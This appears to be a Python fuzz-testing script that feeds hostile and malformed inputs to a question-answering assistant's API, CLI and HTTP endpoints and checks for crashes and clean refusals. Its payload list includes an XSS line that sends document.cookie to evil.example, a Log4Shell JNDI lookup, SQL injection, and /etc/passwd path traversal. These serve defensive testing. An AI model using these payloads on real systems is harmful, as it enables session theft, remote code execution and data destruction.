"""Fuzzing every entry point: the Python API, the CLI (one-shot and batch) and the HTTP API.

Inputs are a fixed set of hostile strings (:data:`HOSTILE`: control characters, lone surrogates,
bidi and zero-width marks, a 100,000-character word, HTML/JS/Markdown/LaTeX payloads, format
strings, JSON-breaking text, mixed scripts, emoji runs), values that are not text, malformed
batch lines and HTTP bodies, and as many Hypothesis-generated strings as asked for. The rule
for every input:

* no traceback: a result, or an :class:`~assistant.errors.AssistantError` whose message is one
  line (the CLI prints it as ``Error: ...`` and exits 1);
* every passage in a result is verbatim: its text is its document's text at its offsets;
* over HTTP, no 5xx, and a refusal carries our one-line message;
* in a batch, each bad line gets its own error object on its line, and the others are answered.

    .venv/bin/python -m bench.fuzz                  # the real model on the built-in corpus
    .venv/bin/python -m bench.fuzz --examples 200   # fewer generated strings
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import sys
import tempfile
import traceback
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from bench.measure import REPO, open_assistant

RESULTS = REPO / "bench" / "results"

_PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "<iframe src=javascript:alert(1)></iframe>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "**bold** _it_ `code` # Heading\n> quote\n- item",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$\\frac{1}{0}$$ \\(x^2\\) \\[\\int\\]",
    "{0}{1}{__class__.__mro__} %s %n %x %(name)s {{7*7}} ${7*7}",
    "${jndi:ldap://evil.example/a}",
    '"}]}\', "error": null, "passages": [',
    '\\"\\\\\\u0000\\ud800',
    "'; DROP TABLE ratings; --",
    "../../../../etc/passwd %2e%2e%2f",
    "\x00\x01\x02\x03\x1b[2J\x1b[31mred\x07\x08\x7f\x85",
    "\u2028\u2029\u000b\u000c",
    "\u202eGSOIA si tahW\u202c \u2066isolate\u2069",
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈",
    "🔥" * 500,
    "Канада і Україна 加拿大和乌克兰 كندا وأوكرانيا कनाडा",
    "Z̴̡̛̗a̷l̸g̶o̵" + "\u0301" * 300,
    "\ud800",
    "\udfff lone low surrogate \udbff",
    "a" * 100_000,
    "word " * 30_000,
    "1e309 NaN -0 9" * 50,
    "\t\n\r \u3000\u00a0",
    "",
]


def hostile_strings() -> list[str]:
    """Each payload alone, inside a question and before one (about 85 strings)."""
    out = []
    for payload in _PAYLOADS:
        out += [payload, f"What is {payload}?", f"{payload} How long does the agreement last?"]
    return out


HOSTILE = hostile_strings()
NOT_TEXT: list[Any] = [None, 42, 3.5, True, [], ["What is GSOIA?"], {"q": "x"}, b"bytes"]


@dataclass
class Tally:
    """What the fuzzing saw: inputs tried per entry point, and every problem found."""

    inputs: Counter = field(default_factory=Counter)
    refusals: Counter = field(default_factory=Counter)
    problems: list[str] = field(default_factory=list)
    http_5xx: int = 0

    def problem(self, where: str, value: object, what: str) -> None:
        self.problems.append(f"{where} {ascii(value)[:80]}: {what}"[:2000])

    def summary(self) -> dict:
        tracebacks = sum("Traceback" in p for p in self.problems)
        return {
            "inputs": sum(self.inputs.values()),
            "by_entry_point": dict(self.inputs),
            "refused_cleanly": sum(self.refusals.values()),
            "tracebacks": tracebacks,
            "http_5xx": self.http_5xx,
            "other_problems": len(self.problems) - tracebacks,
            "problems": self.problems[:20],
        }


def check_verbatim(bot, result) -> str | None:
    """Why ``result`` (an answer, comparison or verdict) quotes a passage that is not verbatim."""
    rows = getattr(result, "results", None)
    passages = [r.passage for r in rows if r.passage] if rows is not None else result.passages
    for p in passages:
        text = bot.documents[p.doc].text
        if text[p.start : p.end] != p.text or p.highlight not in p.text:
            return f"passage {p.citation} is not verbatim"
    return None


def api_calls(bot):
    """The Python API's entry points that take a question or claim."""
    return {
        "api.ask": bot.ask,
        "api.compare": bot.compare,
        "api.verify": bot.verify,
        "api.conversation": lambda q: bot.conversation().ask(q),
    }


def fuzz_api(bot, value: object, tally: Tally) -> None:
    """Put ``value`` through every Python API entry point."""
    from assistant.errors import AssistantError

    for name, call in api_calls(bot).items():
        tally.inputs[name] += 1
        try:
            result = call(value)
        except AssistantError as exc:
            tally.refusals[name] += 1
            if not str(exc) or "\n" in str(exc):
                tally.problem(name, value, f"refusal is not one line: {exc!r}")
            continue
        except Exception:  # noqa: BLE001 - exactly what fuzzing looks for
            tally.problem(name, value, traceback.format_exc())
            continue
        why = check_verbatim(bot, result)
        if why:
            tally.problem(name, value, why)


def fuzz_generated(bot, examples: int, tally: Tally) -> None:
    """``examples`` Hypothesis strings (all of Unicode, surrogates included, hostile pieces
    mixed in) through the Python API."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    any_text = st.text(st.characters(exclude_categories=()), max_size=400)
    pieces = st.lists(st.one_of(st.sampled_from(HOSTILE[:-3]), any_text), max_size=4)
    strategy = st.one_of(any_text, pieces.map("".join))

    @settings(
        max_examples=examples,
        database=None,
        deadline=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def property_(value: str) -> None:
        fuzz_api(bot, value, tally)

    property_()


@contextlib.contextmanager
def _console() -> Any:
    """stdout and stderr as a terminal has them (UTF-8; strict on stdout, backslash escapes on
    stderr), captured: a lone surrogate printed to stdout fails here as it would for real."""
    out, err = io.BytesIO(), io.BytesIO()
    stdout = io.TextIOWrapper(out, encoding="utf-8", errors="strict", write_through=True)
    stderr = io.TextIOWrapper(err, encoding="utf-8", errors="backslashreplace", write_through=True)
    captured: dict[str, Any] = {}
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        yield captured
    captured["out"] = out.getvalue().decode("utf-8")
    captured["err"] = err.getvalue().decode("utf-8")


def run_cli(bot, args: list[str]) -> tuple[int, str, str, str | None]:
    """``python -m assistant ARGS`` in-process against the open ``bot``: (exit code, stdout,
    stderr, traceback or None)."""
    from assistant import cli

    code, crash = 0, None
    real_open = cli._open
    cli._open = lambda ctx: bot  # the index is open already; opening it is tested elsewhere
    try:
        with _console() as captured:
            try:
                cli.main(args)
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else 1
            except BaseException:  # noqa: BLE001
                crash = traceback.format_exc()
    finally:
        cli._open = real_open
    return code, captured.get("out", ""), captured.get("err", ""), crash


def fuzz_cli_one_shot(bot, value: str, tally: Tally) -> None:
    """``ask``, ``compare`` and ``verify`` with ``value`` as their argument."""
    for command in (
        ["ask", value],
        ["ask", value, "--json"],
        ["compare", value],
        ["verify", value],
    ):
        name = f"cli.{command[0]}"
        tally.inputs[name] += 1
        code, out, err, crash = run_cli(bot, command)
        if crash:
            tally.problem(name, value, crash)
        elif code not in (0, 1) or (code == 1 and not err.startswith("Error: ")):
            tally.problem(name, value, f"exit {code}, stderr {err[:300]!r}")
        elif code == 1:
            tally.refusals[name] += 1
            if err.count("\n") != 1:
                tally.problem(name, value, f"refusal is not one line: {err[:300]!r}")


def batch_lines(field_name: str) -> list[bytes]:
    """A batch file's lines: every hostile string, then lines no batch should contain."""
    good = [json.dumps({field_name: s}).encode() for s in HOSTILE]
    bad = [
        b"not json at all",
        b"{",
        b'{"other": "field"}',
        b"[1, 2, 3]",
        b'"just a string"',
        json.dumps({field_name: 42}).encode(),
        json.dumps({field_name: None}).encode(),
        json.dumps({field_name: ["a", "b"]}).encode(),
        json.dumps({field_name: {"nested": "dict"}}).encode(),
        b"\xff\xfe\x00\x01 binary",
        b"[" * 100_000,
        b'{"' + field_name.encode() + b'": ' + b"9" * 5000 + b"}",
        b'{"' + field_name.encode() + b'": "\\ud800"}',
    ]
    return good + bad + [json.dumps({field_name: "What is GSOIA?"}).encode()]


def fuzz_cli_batch(bot, tally: Tally, folder: Path) -> None:
    """``ask --questions`` and ``verify --claims`` on a file of hostile and malformed lines:
    one JSON object per line, in order, each bad line with its own error."""
    for command, option, field_name in (
        ("ask", "--questions", "q"),
        ("verify", "--claims", "claim"),
    ):
        name = f"cli.{command} {option}"
        lines = batch_lines(field_name)
        path = folder / f"{command}.jsonl"
        path.write_bytes(b"\n".join(lines) + b"\n\n")
        tally.inputs[name] += len(lines)
        code, out, err, crash = run_cli(bot, [command, option, str(path)])
        if crash or code != 0:
            tally.problem(name, path.name, crash or f"exit {code}: {err[:300]!r}")
            continue
        rows = [json.loads(line) for line in out.splitlines()]
        numbers = [row.get("line") for row in rows]
        if numbers != list(range(1, len(lines) + 1)):
            tally.problem(name, path.name, f"output lines {numbers[:5]}... for {len(lines)} lines")
        errors = [row for row in rows if "error" in row]
        tally.refusals[name] += len(errors)
        if any("\n" in row["error"] for row in errors):
            tally.problem(name, path.name, "an error object's message is not one line")
        if "error" in rows[-1]:
            tally.problem(name, path.name, "the good line after the bad ones was not answered")


def fuzz_http(url: str, tally: Tally) -> None:
    """The three endpoints through ``gradio_client`` and raw HTTP (wrong types, missing fields,
    malformed and oversized bodies): no 5xx, and each refusal our one-line message."""
    import httpx
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(url, verbose=False, analytics_enabled=False, download_files=False)
    calls = {
        "/ask": lambda v: client.predict(v, "", 3, api_name="/ask"),
        "/compare": lambda v: client.predict(v, [], api_name="/compare"),
        "/verify": lambda v: client.predict(v, api_name="/verify"),
    }
    # A lone surrogate cannot be sent by a client library (it is not UTF-8); such strings go as
    # JSON escapes ("\\ud800") over raw HTTP below, as a hostile client would send them.
    sendable = [v for v in [*HOSTILE, *NOT_TEXT[:-1]] if _utf8(v)]
    try:
        for value in sendable:
            for endpoint, call in calls.items():
                name = f"http.client {endpoint}"
                tally.inputs[name] += 1
                try:
                    call(value)
                except AppError as exc:
                    tally.refusals[name] += 1
                    if "\n" in str(exc) or str(exc) in ("", "Error"):
                        tally.problem(name, value, f"refusal without our message: {exc!r}")
                except Exception:  # noqa: BLE001
                    tally.problem(name, value, traceback.format_exc())
    finally:
        client.close()
    unsendable = [v for v in HOSTILE if not _utf8(v)]
    with httpx.Client(base_url=url, timeout=60) as http:
        for endpoint in calls:
            for body, headers in _raw_bodies(unsendable):
                name = f"http.raw {endpoint}"
                tally.inputs[name] += 1
                _raw_call(http, endpoint, body, headers, tally, name)
        for index in (9999, -1, 10**12, True, "a", None, 1.5, [], {}):  # the page's queue
            for session in ("", "x", "0" * 10_000, None, 42):
                name = "http.raw /queue/join"
                tally.inputs[name] += 1
                body = {"fn_index": index, "data": ["What is GSOIA?"], "session_hash": session}
                response = http.post("/gradio_api/queue/join", json=body)
                if response.status_code >= 500:
                    tally.http_5xx += 1
                    tally.problem(name, body, f"status {response.status_code}")
                else:
                    tally.refusals[name] += response.status_code != 200


def _utf8(value: object) -> bool:
    try:
        str(value).encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def _raw_bodies(texts: list[str]) -> list[tuple[bytes, dict[str, str]]]:
    """Malformed bodies, wrong types and missing fields, and a valid call for each of ``texts``."""
    as_json = {"Content-Type": "application/json"}
    bodies = [
        {"data": ["What is GSOIA?", "", 3]},
        {"data": []},
        {"data": [42, 42, 42]},
        {"data": [None, None, None]},
        {"data": ["What is GSOIA?", "no-such-agreement", 3]},
        {"data": ["What is GSOIA?", "", "five"]},
        {"data": ["What is GSOIA?", "", 10**20]},
        {"data": ["What is GSOIA?", "", -1]},
        {"data": "not a list"},
        {"data": [{"nested": ["deep"]}] * 3},
        {"data": ["x" * 5_000_000]},
        {"no_data": True},
        {"data": ["What is GSOIA?"] * 1000},
        [],
        "string",
        *({"data": [text, "", 3]} for text in texts),
    ]
    raw = [(json.dumps(b).encode(), as_json) for b in bodies]
    raw += [
        (b"{not json", as_json),
        (b"", as_json),
        (b"\xff\xfe\x00", as_json),
        (b"[" * 50_000, as_json),
        (b'{"data": ["What is GSOIA?", "", 3]}', {"Content-Type": "text/plain"}),
        (b"q=What+is+GSOIA", {"Content-Type": "application/x-www-form-urlencoded"}),
    ]
    return raw


def _raw_call(http, endpoint: str, body: bytes, headers: dict, tally: Tally, name: str) -> None:
    """POST the body to the call route, then read the event stream it names."""
    response = http.post(f"/gradio_api/call{endpoint}", content=body, headers=headers)
    if response.status_code >= 500:
        tally.http_5xx += 1
        tally.problem(name, body[:60], f"POST status {response.status_code}")
        return
    if response.status_code != 200:
        tally.refusals[name] += 1
        return
    event = response.json().get("event_id")
    stream = http.get(f"/gradio_api/call{endpoint}/{event}")
    if stream.status_code >= 500:
        tally.http_5xx += 1
        tally.problem(name, body[:60], f"stream status {stream.status_code}")
        return
    if "event: error" in stream.text:
        tally.refusals[name] += 1
        data = stream.text.split("event: error", 1)[1].split("data:", 1)[-1].strip()
        if data in ("", "null") and body.startswith(b'{"data": ["What is GSOIA?", "", 3]}'):
            tally.problem(name, body[:60], "a valid call was refused")


def run(bot, examples: int = 700, http: bool = True) -> dict:
    """Every entry point with the hostile set; ``examples`` generated strings through the API."""
    from assistant.ui.server import BackgroundServer, create_app

    tally = Tally()
    for value in [*HOSTILE, *NOT_TEXT]:
        fuzz_api(bot, value, tally)
    fuzz_generated(bot, examples, tally)
    for value in HOSTILE:
        fuzz_cli_one_shot(bot, value, tally)
    with tempfile.TemporaryDirectory() as tmp:
        fuzz_cli_batch(bot, tally, Path(tmp))
    if http:
        with BackgroundServer(create_app(bot, bot.settings)) as url:
            fuzz_http(url, tally)
    return tally.summary()


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--examples", type=int, default=700, help="generated strings")
    parser.add_argument("--corpus", type=Path, default=REPO / "corpus", help="corpus to serve")
    args = parser.parse_args(argv)
    os.environ.setdefault("HF_HUB_OFFLINE", "1")
    with tempfile.TemporaryDirectory() as tmp:
        result = run(open_assistant(Path(tmp), args.corpus), args.examples)
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "fuzz.json").write_text(json.dumps(result, indent=1) + "\n")
    print(json.dumps(result, indent=1))
    sys.exit(1 if result["tracebacks"] or result["http_5xx"] or result["other_problems"] else 0)


if __name__ == "__main__":
    main()
